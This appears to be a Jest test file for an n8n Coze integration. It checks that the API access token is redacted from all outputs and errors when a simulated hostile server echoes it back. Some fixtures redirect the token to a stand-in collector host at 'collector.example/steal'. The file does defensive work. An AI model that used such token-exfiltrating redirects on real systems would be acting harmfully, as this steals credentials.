// The access token never leaves the node: a hostile or buggy server echoes it into
// every field it controls, and the whole engine run (items of both outputs, the error and its
// description, as n8n stores them) must hold no piece of it. No real server is known to echo
// the token; these shapes are hostile by design.
import type { IncomingMessage, ServerResponse } from 'node:http';

import { checkCozeCredential } from '../../nodes/Coze/transport/http/credential-test';
import { runWorkflow, useBinaryMode } from '../engine/harness';
import { stopSimulator } from '../simulator/stop';
import { CozeSimulator } from '../simulator/server';
import { messageChunks, numbered, type SimWorkflow } from '../simulator/workflows';
import { cozeGraph, EVENT_ID, WORKFLOW_ID, type CozeGraphOptions } from './graph';

/** No run of 12 or more characters of the token anywhere: not whole, and not cut in half either. */
function expectNoPieceOf(token: string, text: string): void {
	for (let start = 0; start + 12 <= token.length; start += 4)
		expect(text).not.toContain(token.slice(start, start + 12));
}

type Answer = (
	req: IncomingMessage,
	res: ServerResponse,
	body: () => Promise<string>,
) => void | Promise<void>;

interface Scenario {
	name: string;
	graph?: CozeGraphOptions;
	workflow?: (token: string) => SimWorkflow;
	/** Overrides: path → handler made with the token. */
	answers?: (token: string) => Record<string, Answer>;
	/** The echo reached the node: "[redacted]" must show where it stood. */
	redactedShows: boolean;
}

const jsonAnswer =
	(status: number, body: object, headers: Record<string, string> = {}): Answer =>
	(_req, res) => {
		res.writeHead(status, { 'content-type': 'application/json', ...headers });
		res.end(JSON.stringify(body));
	};

const executeId = '7404830425073350077';

const scenarios: Scenario[] = [
	{
		name: 'an error envelope whose msg, detail.logid and x-tt-logid echo it',
		answers: (token) => ({
			'/v1/workflow/stream_run': jsonAnswer(
				400,
				{ code: 4000, msg: `bad header Bearer ${token}`, detail: { logid: token } },
				{ 'x-tt-logid': token },
			),
		}),
		redactedShows: true,
	},
	{
		name: 'a content type that echoes it',
		answers: (token) => ({
			'/v1/workflow/stream_run': jsonAnswer(
				200,
				{ code: 0, msg: '' },
				{ 'content-type': `application/json; echo=${token}` },
			),
		}),
		redactedShows: true,
	},
	{
		name: "a redirect's Location",
		answers: (token) => ({
			'/v1/workflow/stream_run': (_req, res) => {
				res.writeHead(307, { location: `https://collector.example/steal?token=${token}` });
				res.end();
			},
		}),
		redactedShows: true,
	},
	{
		name: 'an HTML error page with the token across the 200-character snippet cut',
		answers: (token) => ({
			'/v1/workflow/stream_run': (_req, res) => {
				res.writeHead(500, { 'content-type': 'text/html' });
				res.end(`<html><body>${'x'.repeat(172)} ${token} upstream said no</body></html>`);
			},
		}),
		redactedShows: false,
	},
	{
		name: "streamed Message content with the token split across two chunks, and Done's debug_url",
		workflow: (token) => ({
			run: () => ({
				stream: numbered([
					...messageChunks({ title: 'End', uuid: 'e' }, [
						`{"output":"${token.slice(0, 10)}`,
						`${token.slice(10)}"}`,
					]),
					{ event: 'Done', data: { debug_url: `https://www.coze.cn/work_flow?token=${token}` } },
				]),
			}),
		}),
		redactedShows: true,
	},
	{
		name: "an Error event's error_message and debug_url",
		workflow: (token) => ({
			run: () => ({
				stream: numbered([
					{
						event: 'Error',
						data: {
							error_code: 4100,
							error_message: `invalid ${token}`,
							debug_url: `https://www.coze.cn/?t=${token}`,
						},
					},
				]),
			}),
		}),
		redactedShows: true,
	},
	{
		name: 'event data that is not JSON, with the token across the 120-character snippet cut',
		workflow: (token) => ({
			run: () => ({
				stream: [
					{ id: 0, event: 'Message', data: `{"content": "${'y'.repeat(90)} ${token} and more` },
				],
			}),
		}),
		redactedShows: false,
	},
	{
		name: "an Interrupt's data and node_title",
		workflow: (token) => ({
			run: () => ({
				stream: numbered([
					{
						event: 'Interrupt',
						data: {
							interrupt_data: { event_id: EVENT_ID, type: 2, data: `{"question":"${token}?"}` },
							node_title: token,
						},
					},
				]),
			}),
		}),
		redactedShows: true,
	},
	{
		name: "a synchronous run's data and debug_url",
		graph: { options: { runMode: 'sync' } },
		workflow: (token) => ({
			blockingRun: () => ({
				json: {
					code: 0,
					msg: '',
					data: `{"output":"${token}"}`,
					execute_id: executeId,
					debug_url: `https://x/?${token}`,
				},
			}),
		}),
		redactedShows: true,
	},
	{
		name: "an asynchronous run's history error text",
		graph: { options: { runMode: 'async', pollIntervalSeconds: 1 } },
		workflow: (token) => ({
			blockingRun: () => ({ json: { code: 0, msg: '', execute_id: executeId } }),
			history: [
				{
					execute_id: executeId,
					execute_status: 'Fail',
					error_code: '4100',
					error_message: `token ${token} expired`,
					debug_url: `https://x/?${token}`,
				},
			],
		}),
		redactedShows: true,
	},
];

describe('the token never leaves the node, whatever the server echoes', () => {
	let sim: CozeSimulator;
	beforeAll(() => useBinaryMode('memory'));
	beforeEach(async () => (sim = await CozeSimulator.start()));
	afterEach(() => stopSimulator(sim));

	describe.each(['stopWorkflow', 'continueRegularOutput'] as const)(
		'with On Error: %s',
		(onError) => {
			it.each(scenarios)('$name', async (scenario) => {
				if (scenario.workflow) sim.defineWorkflow(WORKFLOW_ID, scenario.workflow(sim.token));
				for (const [path, answer] of Object.entries(scenario.answers?.(sim.token) ?? {}))
					sim.override(path, answer);
				const result = await runWorkflow(
					cozeGraph(sim, { ...scenario.graph, onError, requestOptions: { maxRetries: 0 } }),
				);
				const error = result.nodeError('Coze');
				const everything = `${JSON.stringify(result.run)}\n${error?.message}\n${error?.description}`;
				expectNoPieceOf(sim.token, everything);
				if (scenario.redactedShows) expect(everything).toContain('[redacted]');
			});
		},
	);

	it("in the credential test's message: a redirect that carries it", async () => {
		sim.override('/v1/users/me', (_req, res) => {
			res.writeHead(302, { location: `https://collector.example/?t=${sim.token}` });
			res.end();
		});
		const check = await checkCozeCredential({
			region: 'custom',
			baseUrl: sim.baseUrl,
			accessToken: sim.token,
		});
		expect(check.ok).toBe(false);
		expect(check.message).toContain('[redacted]');
		expectNoPieceOf(sim.token, check.message);
	});
});
